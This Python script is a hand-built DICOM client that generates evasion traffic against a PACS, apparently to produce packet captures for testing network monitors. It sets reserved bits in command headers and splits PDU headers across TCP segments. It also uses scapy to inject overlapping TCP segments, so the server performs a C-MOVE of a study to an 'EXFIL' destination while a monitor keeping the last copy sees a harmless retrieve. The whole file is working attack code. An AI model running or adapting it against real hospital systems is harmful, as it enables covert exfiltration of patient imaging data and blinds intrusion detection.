"""The attacker of the evasion captures: a scripted DICOM SCU over a real TCP connection.

It speaks the Upper Layer protocol itself (PS3.8), so it can send what no stock SCU sends:

  reserved-bits  every command PDV's message control header with bits 2-7 set
                 (PS3.8 E.2: receivers do not test them): C-ECHO, C-FIND, C-MOVE, C-STORE
  split          every PDU (A-ASSOCIATE-RQ, each P-DATA-TF, A-RELEASE-RQ) written as two TCP
                 segments, the first holding the first K bytes of its 6-byte header
                 (TCP_NODELAY, a pause between the writes); one association per K in 0..5
  overlap        a C-MOVE to EXFIL and, from a raw socket, a second copy of part of its TCP
                 sequence range with different bytes naming the attacker's own AE title (a
                 move to oneself, the everyday retrieve): --mode held (both copies arrive
                 out of order, the real one first, then the kernel fills the hole) or
                 --mode retransmit (the decoy copy after the PACS received the real one in
                 order). Linux keeps the first copy both times: the SCP moves to EXFIL; a
                 monitor that kept the last copy would see a harmless retrieve

PDUs and command sets are encoded by hand from PS3.7/PS3.8 (command sets with pydicom, in
implicit VR little endian); everything else about them is what the standard asks. It
writes one line per step to stdout: the bytes it sent, the responses and their statuses.
"""

from __future__ import annotations

import argparse
import socket
import struct
import sys
import time
from io import BytesIO

from pydicom import dcmread
from pydicom.dataset import Dataset
from pynetdicom.dsutils import encode

VERIFICATION = "1.2.840.10008.1.1"
FIND = "1.2.840.10008.5.1.4.1.2.2.1"  # Study Root Q/R Information Model - FIND
MOVE = "1.2.840.10008.5.1.4.1.2.2.2"  # Study Root Q/R Information Model - MOVE
CT = "1.2.840.10008.5.1.4.1.1.2"
IMPLICIT_LE = "1.2.840.10008.1.2"
APP_CONTEXT = "1.2.840.10008.3.1.1.1"
IMPL_UID = "1.2.826.0.1.3680043.10.999.1"  # made-up implementation class UID of the script
IMPL_NAME = "EVASION_SCU"
CONTEXTS = {1: VERIFICATION, 3: FIND, 5: MOVE, 7: CT}
CTX = {uid: cid for cid, uid in CONTEXTS.items()}
PAUSE = 0.06


def log(line: str) -> None:
    print(line, flush=True)


# ---------------------------------------------------------------- PS3.8 encoding


def item(item_type: int, value: bytes) -> bytes:
    return struct.pack(">BxH", item_type, len(value)) + value


def pdu(pdu_type: int, body: bytes) -> bytes:
    return struct.pack(">BxI", pdu_type, len(body)) + body


def associate_rq(called: str, calling: str, ext_neg: bytes = b"") -> bytes:
    """A-ASSOCIATE-RQ (PS3.8 9.3.2) proposing CONTEXTS, implicit VR little endian each."""
    body = struct.pack(">HH16s16s32x", 1, 0, called.encode().ljust(16), calling.encode().ljust(16))
    body += item(0x10, APP_CONTEXT.encode())
    for cid, uid in CONTEXTS.items():
        body += item(0x20, bytes([cid, 0, 0, 0]) + item(0x30, uid.encode())
                     + item(0x40, IMPLICIT_LE.encode()))  # fmt: skip
    user = item(0x51, struct.pack(">I", 16384))
    user += item(0x52, IMPL_UID.encode()) + item(0x55, IMPL_NAME.encode()) + ext_neg
    return pdu(0x01, body + item(0x50, user))


def ext_neg(sop_class: str, info: bytes) -> bytes:
    """SOP Class Extended Negotiation sub-item 0x56 (PS3.7 D.3.3.5)."""
    return item(0x56, struct.pack(">H", len(sop_class)) + sop_class.encode() + info)


def pdata(context_id: int, control: int, fragment: bytes) -> bytes:
    """One P-DATA-TF PDU holding one PDV (PS3.8 9.3.5, E.2)."""
    return pdu(0x04, struct.pack(">IBB", len(fragment) + 2, context_id, control) + fragment)


RELEASE_RQ = pdu(0x05, b"\x00\x00\x00\x00")


def encode_ds(ds: Dataset) -> bytes:
    """The data set in implicit VR little endian (commands always are; so are our contexts)."""
    return bytes(encode(ds, True, True))


def implicit(ds: Dataset) -> Dataset:
    ds.is_little_endian = True
    ds.is_implicit_VR = True
    return ds


def command(**fields: object) -> bytes:
    """A command set (PS3.7 E.1): group 0000 elements, with its Command Group Length."""
    ds = implicit(Dataset())
    for keyword, value in fields.items():
        setattr(ds, keyword, value)
    rest = encode_ds(ds)
    group = implicit(Dataset())
    group.CommandGroupLength = len(rest)
    return encode_ds(group) + rest


# ---------------------------------------------------------------- the connection


class Peer:
    """A TCP connection to the SCP with a PDU reader; writes can be split at an offset."""

    def __init__(self, host: str, port: int, split: int | None = None) -> None:
        self.sock = socket.create_connection((host, port), timeout=20)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.split = split
        self.local = self.sock.getsockname()
        self.next_msg = 1

    def send(self, data: bytes, what: str) -> None:
        k = self.split
        if k is None:
            self.sock.sendall(data)
            log(f"sent {what} {len(data)} bytes")
            return
        # A pause first, so the PDU starts a segment (K = 0 is that boundary alone) ...
        time.sleep(PAUSE)
        if k:
            self.sock.sendall(data[:k])
            time.sleep(PAUSE)  # ... and another after its first K header bytes.
        self.sock.sendall(data[k:])
        log(f"sent {what} {len(data)} bytes split after {k}")

    def recv_exact(self, n: int) -> bytes:
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise ConnectionError("peer closed")
            buf += chunk
        return buf

    def read_pdu(self) -> tuple[int, bytes]:
        head = self.recv_exact(6)
        pdu_type, length = struct.unpack(">BxI", head)
        return pdu_type, self.recv_exact(length)

    def read_message(self) -> tuple[Dataset, bool]:
        """The next DIMSE message's command set and whether a data set came with it."""
        cmd = b""
        while True:
            pdu_type, body = self.read_pdu()
            if pdu_type != 0x04:
                raise ConnectionError(f"PDU 0x{pdu_type:02x} while waiting for a response")
            pos = 0
            while pos < len(body):
                length, _cid, control = struct.unpack_from(">IBB", body, pos)
                fragment = body[pos + 6 : pos + 4 + length]
                pos += 4 + length
                if control & 1:
                    cmd += fragment
                    if control & 2:
                        ds = dcmread(BytesIO(cmd), force=True)
                        has_data = ds.CommandDataSetType != 0x0101
                        if has_data:
                            self._skip_data_set()
                        return ds, has_data

    def _skip_data_set(self) -> None:
        while True:
            _t, body = self.read_pdu()
            pos = 0
            while pos < len(body):
                length, _cid, control = struct.unpack_from(">IBB", body, pos)
                pos += 4 + length
                if control & 2 and not control & 1:
                    return

    def associate(self, called: str, calling: str, extra: bytes = b"") -> None:
        self.send(associate_rq(called, calling, extra), "A-ASSOCIATE-RQ")
        pdu_type, body = self.read_pdu()
        if pdu_type != 0x02:
            raise ConnectionError(f"association not accepted (PDU 0x{pdu_type:02x})")
        log("received A-ASSOCIATE-AC")

    def release(self) -> None:
        self.send(RELEASE_RQ, "A-RELEASE-RQ")
        pdu_type, _ = self.read_pdu()
        log(f"received PDU 0x{pdu_type:02x} (A-RELEASE-RP expected)")
        self.sock.close()

    def request(
        self,
        name: str,
        sop_class: str,
        cmd: bytes,
        data: bytes | None,
        control: int,
        after_command: object = None,
        before_command: object = None,
        framed: bool = False,
    ) -> list[int]:
        """Send one request (command PDV control byte ``control``); return every status.

        ``cmd`` is the command set, or (``framed``) the whole P-DATA-TF PDU holding it.
        """
        cid = CTX[sop_class]
        cmd_pdu = cmd if framed else pdata(cid, control, cmd)
        rest = before_command(cmd_pdu) if callable(before_command) else None
        # before_command may have written the PDU's first bytes itself: send the rest.
        self.send(cmd_pdu if rest is None else rest, f"{name} command (control 0x{control:02x})")
        if callable(after_command):
            after_command(cmd_pdu)
        if data is not None:
            self.send(pdata(cid, 0x02, data), f"{name} data set")
        statuses = []
        while True:
            rsp, _ = self.read_message()
            statuses.append(int(rsp.Status))
            if int(rsp.Status) not in (0xFF00, 0xFF01):
                break
        log(f"{name} statuses {' '.join(f'0x{s:04X}' for s in statuses)}")
        return statuses


def msg(peer: Peer) -> int:
    n = peer.next_msg
    peer.next_msg += 1
    return n


def echo_cmd(mid: int) -> bytes:
    return command(AffectedSOPClassUID=VERIFICATION, CommandField=0x0030, MessageID=mid,
                   CommandDataSetType=0x0101)  # fmt: skip


def find_cmd(mid: int) -> bytes:
    return command(AffectedSOPClassUID=FIND, CommandField=0x0020, MessageID=mid, Priority=0,
                   CommandDataSetType=0x0001)  # fmt: skip


def move_cmd(mid: int, dest: str) -> bytes:
    return command(AffectedSOPClassUID=MOVE, CommandField=0x0021, MessageID=mid, Priority=0,
                   CommandDataSetType=0x0001, MoveDestination=dest)  # fmt: skip


def store_cmd(mid: int, ds: Dataset) -> bytes:
    return command(AffectedSOPClassUID=CT, CommandField=0x0001, MessageID=mid, Priority=0,
                   CommandDataSetType=0x0001,
                   AffectedSOPInstanceUID=ds.SOPInstanceUID)  # fmt: skip


def study_query() -> bytes:
    ds = implicit(Dataset())
    ds.QueryRetrieveLevel = "STUDY"
    ds.StudyInstanceUID = ""
    ds.PatientID = ""
    return encode_ds(ds)


def study_key(uid: str) -> bytes:
    ds = implicit(Dataset())
    ds.QueryRetrieveLevel = "STUDY"
    ds.StudyInstanceUID = uid
    return encode_ds(ds)


def image_bytes(path: str) -> tuple[Dataset, bytes]:
    ds = dcmread(path)
    body = implicit(Dataset())
    for elem in ds:  # the data set without its file meta, in implicit VR little endian
        body.add(elem)
    return ds, encode_ds(body)


# ---------------------------------------------------------------- scenarios


def reserved_bits(a: argparse.Namespace) -> None:
    """One association: C-ECHO, C-FIND, C-MOVE, C-STORE, each command PDV with bits 2-7 set."""
    peer = Peer(a.host, a.port)
    log(f"connection {peer.local[0]}:{peer.local[1]} -> {a.host}:{a.port}")
    peer.associate(a.called, a.calling)
    ds, data = image_bytes(a.image)
    controls = {"C-ECHO": 0x07, "C-FIND": 0x43, "C-MOVE": 0x83, "C-STORE": 0xFF}
    if "echo" in a.commands:
        peer.request("C-ECHO", VERIFICATION, echo_cmd(msg(peer)), None, controls["C-ECHO"])
    if "find" in a.commands:
        peer.request("C-FIND", FIND, find_cmd(msg(peer)), study_query(), controls["C-FIND"])
    if "move" in a.commands:
        peer.request("C-MOVE", MOVE, move_cmd(msg(peer), a.move_dest),
                     study_key(ds.StudyInstanceUID), controls["C-MOVE"])  # fmt: skip
    if "store" in a.commands:
        peer.request("C-STORE", CT, store_cmd(msg(peer), ds), data, controls["C-STORE"])
    peer.release()


def split(a: argparse.Namespace) -> None:
    """One association per K in 0..5: every PDU's header split after K bytes."""
    for k in range(6):
        peer = Peer(a.host, a.port, split=k)
        log(f"connection {peer.local[0]}:{peer.local[1]} -> {a.host}:{a.port} split={k}")
        peer.associate(a.called, a.calling)
        peer.request("C-FIND", FIND, find_cmd(msg(peer)), study_query(), 0x03)
        peer.release()


def overlap(a: argparse.Namespace) -> None:
    """A C-MOVE to ``move_dest`` and a copy of part of its P-DATA naming ``decoy``.

    held:        before the kernel sends the PDU, two segments covering its bytes from
                 offset HOLE on are injected: first with the real bytes, then the decoy;
                 both arrive out of order (bytes 0..HOLE-1 are missing); then the kernel
                 sends bytes 0..HOLE-1 alone, filling the hole. Linux queued the first
                 out-of-order copy and dropped the identical range after it
                 (tcp_data_queue_ofo: "all the bits are present"), so what the PACS reads
                 past the hole is the first copy (had it kept the last, the PACS would
                 have been asked to move to the decoy, an AE it does not know). The
                 kernel's own copy of the rest follows, a retransmission of bytes the PACS
                 already has.
    retransmit:  after the kernel sent the PDU (and the PACS received it in order), a copy
                 of the same sequence range naming the decoy is injected; Linux drops it as
                 already received.
    """
    from scapy.all import IP, TCP, AsyncSniffer, conf, send  # noqa: PLC0415 (root only)

    conf.verb = 0
    ds, _ = image_bytes(a.image)
    seen: list[object] = []
    peer_box: dict[str, Peer] = {}

    def mine(pkt: object) -> bool:
        p = peer_box.get("peer")
        return p is not None and pkt.haslayer(TCP) and pkt[TCP].sport == p.local[1]  # type: ignore[attr-defined,index]

    sniffer = AsyncSniffer(iface=a.iface, filter=f"tcp and dst host {a.host} and dst port {a.port}",
                           lfilter=mine, prn=seen.append, store=False)  # fmt: skip
    sniffer.start()
    time.sleep(0.5)
    peer = Peer(a.host, a.port)
    peer_box["peer"] = peer
    log(f"connection {peer.local[0]}:{peer.local[1]} -> {a.host}:{a.port} mode={a.mode}")
    peer.associate(a.called, a.calling, ext_neg(FIND, b"\x01\x01\x00\x00"))
    # Both AE titles padded to 16 characters (PS3.5 6.2), so the copies have one length.
    mid = msg(peer)
    real = pdata(CTX[MOVE], 0x03, move_cmd(mid, a.move_dest.ljust(16)))
    decoy = pdata(CTX[MOVE], 0x03, move_cmd(mid, a.decoy.ljust(16)))
    if len(decoy) != len(real) or decoy == real:
        raise SystemExit("decoy must differ and keep the length")

    def forge(template: object, seq: int, payload: bytes) -> object:
        t = template
        return IP(src=t[IP].src, dst=t[IP].dst, ttl=t[IP].ttl) / TCP(  # type: ignore[index]
            sport=t[TCP].sport, dport=t[TCP].dport, seq=seq, ack=t[TCP].ack,  # type: ignore[index]
            flags="PA", window=t[TCP].window) / payload  # type: ignore[index]  # fmt: skip

    def before(cmd_pdu: bytes) -> bytes | None:
        if a.mode != "held":
            return None
        time.sleep(0.3)  # the ACK of the A-ASSOCIATE-AC is out: it carries snd_nxt and ack
        last = max(seen, key=lambda p: (p[TCP].seq + len(bytes(p[TCP].payload))) % 2**32)  # type: ignore[index]
        snd_nxt = (last[TCP].seq + len(bytes(last[TCP].payload))) % 2**32  # type: ignore[index]
        hole = a.hole
        send(forge(last, (snd_nxt + hole) % 2**32, real[hole:]))
        time.sleep(0.02)
        send(forge(last, (snd_nxt + hole) % 2**32, decoy[hole:]))
        time.sleep(0.02)
        log(f"injected out of order at seq {snd_nxt}+{hole}: {len(real) - hole} bytes naming "
            f"{a.move_dest!r}, then the same range naming {a.decoy!r}")  # fmt: skip
        # The kernel fills the hole with the PDU's first bytes only: what the PACS reads past
        # them is whichever out-of-order copy Linux kept. The rest goes out after a pause (a
        # copy of bytes the PACS then already has).
        peer.sock.sendall(cmd_pdu[:hole])
        log(f"sent the first {hole} bytes of the C-MOVE PDU (the hole)")
        time.sleep(PAUSE * 3)
        return cmd_pdu[hole:]

    def after(cmd_pdu: bytes) -> None:
        if a.mode != "retransmit":
            return
        deadline = time.time() + 5
        while time.time() < deadline:
            for pkt in list(seen):
                if bytes(pkt[TCP].payload) == cmd_pdu:  # type: ignore[index]
                    send(forge(pkt, pkt[TCP].seq, decoy))  # type: ignore[index]
                    log(f"injected a copy of seq {pkt[TCP].seq} ({len(cmd_pdu)} bytes) naming "  # type: ignore[index]
                        f"{a.decoy!r} instead of {a.move_dest!r}")  # fmt: skip
                    return
            time.sleep(0.002)
        raise SystemExit("the C-MOVE segment was never seen on the wire")

    peer.request("C-MOVE", MOVE, real, study_key(ds.StudyInstanceUID), 0x03,
                 before_command=before, after_command=after, framed=True)  # fmt: skip
    peer.release()
    sniffer.stop()


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("scenario", choices=["reserved-bits", "split", "overlap"])
    p.add_argument("--host", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--called", default="PACS")
    p.add_argument("--calling", default="EVIL-SCU")
    p.add_argument("--image", required=True)
    p.add_argument("--move-dest", default="EXFIL")
    p.add_argument("--decoy", default="EVIL-SCU")
    p.add_argument("--iface", default="eth0")
    p.add_argument("--commands", default="echo,find,move,store")
    p.add_argument("--mode", choices=["held", "retransmit"], default="held")
    p.add_argument("--hole", type=int, default=12, help="held: bytes left missing before")
    a = p.parse_args()
    {"reserved-bits": reserved_bits, "split": split, "overlap": overlap}[a.scenario](a)


if __name__ == "__main__":
    try:
        main()
    except (OSError, ConnectionError) as exc:
        log(f"FAILED: {exc}")
        sys.exit(1)
